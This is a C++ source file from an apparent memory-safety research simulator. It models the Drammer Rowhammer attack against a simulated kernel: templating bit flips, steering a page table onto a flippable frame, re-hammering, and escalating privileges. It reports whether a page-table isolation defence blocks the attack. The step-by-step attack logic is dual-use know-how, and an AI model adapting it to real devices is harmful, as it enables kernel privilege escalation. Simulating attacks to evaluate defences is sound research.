#include "attack/drammer.hh"

#include <algorithm>
#include <map>
#include <set>
#include <unordered_map>
#include <utility>

#include "attack/exploit.hh"
#include "common/log.hh"
#include "paging/arch.hh"

namespace ctamem::attack {

using kernel::Kernel;

namespace {

constexpr VAddr arenaBase = 0x0000'0040'0000'0000ULL;
constexpr paging::PageFlags rwFlags{true, false, false};
constexpr Addr noFrame = ~0ULL;

} // namespace

std::optional<Pfn>
selfMapDelta(const FlipTemplate &tmpl, const paging::Arch &arch)
{
    if (tmpl.bit < arch.pointerLo || tmpl.bit > 30)
        return std::nullopt;
    // Pointer-field bit j selects granule number bit j; in the global
    // 4 KiB frame unit that is a run of granuleFrames().
    const unsigned j = tmpl.bit - arch.pointerLo;
    const bool table_bit_set =
        (tmpl.frame >> (j + arch.tableOrder())) & 1;
    if (tmpl.downward == table_bit_set)
        return std::nullopt;
    return arch.granuleFrames() << j;
}

TemplateReport
templateMemory(Kernel &kernel, dram::RowHammerEngine &engine,
               const DrammerConfig &config, int *out_pid)
{
    const int pid = kernel.createProcess("drammer");
    if (out_pid)
        *out_pid = pid;
    AttackerContext ctx(kernel, engine, pid);

    // Page-granular arena: each page is its own VMA so single frames
    // can be released during the massaging phase.  Large granules can
    // run the machine out of memory mid-arena; whatever was mapped by
    // then is arena enough.
    const std::uint64_t page_bytes = kernel.pageBytes();
    for (std::uint64_t i = 0; i < config.arenaPages; ++i) {
        const VAddr va = arenaBase + i * page_bytes;
        if (kernel.mmapAnon(pid, page_bytes, rwFlags, va) == 0)
            break;
        if (!kernel.touchUser(pid, va))
            break;
    }

    TemplateReport report;
    // Only flips the self-map construction can use are kept: a page
    // whose translation moved can differ in every bit, and storing
    // all of them would cost one template per bit.
    auto record = [&](VAddr page, Pfn frame, std::uint64_t slot,
                      unsigned bit, bool downward) {
        ++report.flipsObserved;
        const FlipTemplate tmpl{page, frame, slot, bit, downward};
        if (selfMapDelta(tmpl, kernel.arch()))
            report.templates.push_back(tmpl);
    };
    std::vector<dram::FlipEvent> phase_events;
    std::vector<dram::FlipEvent> *const outer_sink = engine.eventSink();
    for (const std::uint64_t pattern : {~0ULL, 0ULL}) {
        // Fill.  One write per page goes through the MMU so the PTE
        // keeps the accessed/dirty side effects of a full-page fill
        // (those bits are per page, so one walk sets what 512 walks
        // would); the remaining slots are patterned through the
        // module directly.
        std::vector<Addr> filled(config.arenaPages, noFrame);
        for (std::uint64_t i = 0; i < config.arenaPages; ++i) {
            const kernel::UserAccess access = kernel.writeUser(
                pid, arenaBase + i * page_bytes, pattern);
            if (!access)
                continue;
            for (std::uint64_t slot = 1; slot < page_bytes / 8;
                 ++slot)
                kernel.dram().writeU64(access.phys + slot * 8,
                                       pattern);
            filled[i] = access.phys;
        }

        // Hammer with the engine's flip stream routed into this
        // phase's buffer (chained to any sink the caller installed).
        phase_events.clear();
        engine.setEventSink(&phase_events);
        for (const auto &[bank, victim] : ctx.findSandwiches()) {
            ctx.hammerSandwich(bank, victim, config.cost);
            ++report.hammeredRows;
        }
        engine.setEventSink(outer_sink);
        if (outer_sink)
            outer_sink->insert(outer_sink->end(),
                               phase_events.begin(),
                               phase_events.end());
        kernel.flushTlb();

        // Scan.  A cell flips at most once per phase (its direction
        // is fixed and a flipped cell no longer stores the value the
        // flip consumes), so over a frame that still holds the fill
        // pattern the engine's flip events ARE the memcmp diff — no
        // per-slot re-read needed.  Group them by frame in the
        // (slot, bit) order the scalar scan reported.
        std::unordered_map<
            Addr, std::vector<std::pair<std::uint64_t, unsigned>>>
            flips_in;
        for (const dram::FlipEvent &event : phase_events) {
            const Addr frame = event.addr & ~(page_bytes - 1);
            flips_in[frame].emplace_back(
                (event.addr & (page_bytes - 1)) / 8,
                static_cast<unsigned>(event.addr % 8) * 8 +
                    event.bit);
        }
        for (auto &[frame, flips] : flips_in)
            std::sort(flips.begin(), flips.end());

        for (std::uint64_t i = 0; i < config.arenaPages; ++i) {
            const VAddr page = arenaBase + i * page_bytes;
            const kernel::UserAccess head = kernel.readUser(pid, page);
            if (!head)
                continue;
            if (head.phys == filled[i]) {
                const auto it = flips_in.find(head.phys);
                if (it == flips_in.end())
                    continue;
                for (const auto &[slot, bit] : it->second) {
                    record(page, addrToPfn(head.phys), slot, bit,
                           /*downward=*/pattern == ~0ULL);
                }
                continue;
            }
            // The page no longer resolves to the frame this phase
            // patterned (fill faulted, or a flipped PTE re-pointed
            // the translation): fall back to the full content diff
            // of the scalar scan.
            for (std::uint64_t slot = 0; slot < page_bytes / 8;
                 ++slot) {
                const kernel::UserAccess access =
                    kernel.readUser(pid, page + slot * 8);
                if (!access || access.value == pattern)
                    continue;
                const std::uint64_t diff = access.value ^ pattern;
                for (unsigned bit = 0; bit < 64; ++bit) {
                    if (!((diff >> bit) & 1))
                        continue;
                    record(page, addrToPfn(access.phys), slot, bit,
                           /*downward=*/pattern == ~0ULL);
                }
            }
        }
    }
    return report;
}

AttackResult
runDrammer(Kernel &kernel, dram::RowHammerEngine &engine,
           const DrammerConfig &config)
{
    AttackResult result;
    int pid = -1;
    TemplateReport report = templateMemory(kernel, engine, config,
                                           &pid);
    AttackerContext ctx(kernel, engine, pid);
    result.flipsInduced = report.flipsObserved;
    result.hammerPasses = report.hammeredRows;

    // Current frame -> arena vaddr for pages still mapped.
    const paging::Arch &arch = kernel.arch();
    const std::uint64_t page_bytes = kernel.pageBytes();
    std::map<Pfn, VAddr> frame_of;
    for (std::uint64_t i = 0; i < config.arenaPages; ++i) {
        const VAddr va = arenaBase + i * page_bytes;
        const kernel::UserAccess access = kernel.readUser(pid, va);
        if (access)
            frame_of[addrToPfn(access.phys)] = va;
    }

    unsigned tried = 0;
    for (const FlipTemplate &tmpl : report.templates) {
        if (tried >= config.maxTemplates)
            break;
        // Data frame the templated PTE must point at so that the
        // flip redirects it onto the table itself.
        const Pfn delta = *selfMapDelta(tmpl, arch);
        const Pfn table_frame = tmpl.frame;
        const Pfn data_frame = tmpl.downward ? table_frame + delta :
                                               table_frame - delta;

        auto table_page = frame_of.find(table_frame);
        auto data_page = frame_of.find(data_frame);
        if (table_page == frame_of.end() ||
            data_page == frame_of.end()) {
            continue; // attacker does not own both frames
        }
        ++tried;

        // --- Phys Feng Shui ---
        // One leaf table's worth of file span, so the templated slot
        // falls inside the mapping whatever the granule.
        const std::uint64_t span = arch.levelCoverage(2);
        const int fd = kernel.createFile(span);
        const std::uint64_t warm_slot = tmpl.slot == 0 ? 1 : 0;
        const VAddr scratch =
            kernel.mmapFile(pid, fd, span, rwFlags);
        // Pre-warm one file page so the next fault allocates only a
        // page-table frame.
        kernel.touchUser(pid, scratch + warm_slot * page_bytes);

        // Free the templated frame; the kernel's next table
        // allocation grabs it (lowest-address-first buddy)...
        kernel.munmap(pid, table_page->second);
        frame_of.erase(table_page);
        const VAddr target =
            kernel.mmapFile(pid, fd, span, rwFlags);
        kernel.touchUser(pid, target + warm_slot * page_bytes);

        // ...then free the partner frame for the data page of the
        // templated slot.
        kernel.munmap(pid, data_page->second);
        frame_of.erase(data_page);
        kernel.touchUser(pid, target + tmpl.slot * page_bytes);

        // --- Re-hammer the templated row: the flip is reproducible.
        const dram::Location loc =
            kernel.dram().locate(pfnToAddr(table_frame));
        const dram::HammerResult hammer =
            ctx.hammerSandwich(loc.bank, loc.row, config.cost);
        ++result.hammerPasses;
        result.flipsInduced += hammer.total();

        const std::vector<VAddr> window{target};
        auto self_ref =
            detectSelfReference(kernel, pid, window, span);
        if (self_ref) {
            ++result.selfReferences;
            result.outcome = Outcome::SelfReference;
            result.detail = "deterministic self-reference";
            if (escalate(kernel, pid, *self_ref, window, span)) {
                result.outcome = Outcome::Escalated;
                result.detail = "deterministic escalation via "
                                "templated flip";
            }
            result.attackTime = ctx.elapsed();
            return result;
        }
        kernel.munmap(pid, target);
        kernel.munmap(pid, scratch);
    }

    result.outcome = tried == 0 && report.flipsObserved == 0 ?
                         Outcome::NoCorruption :
                         Outcome::Blocked;
    result.detail = kernel.ptpZone() ?
        "CTA: page tables unreachable by templated placement" :
        "no exploitable template fired";
    result.attackTime = ctx.elapsed();
    return result;
}

} // namespace ctamem::attack
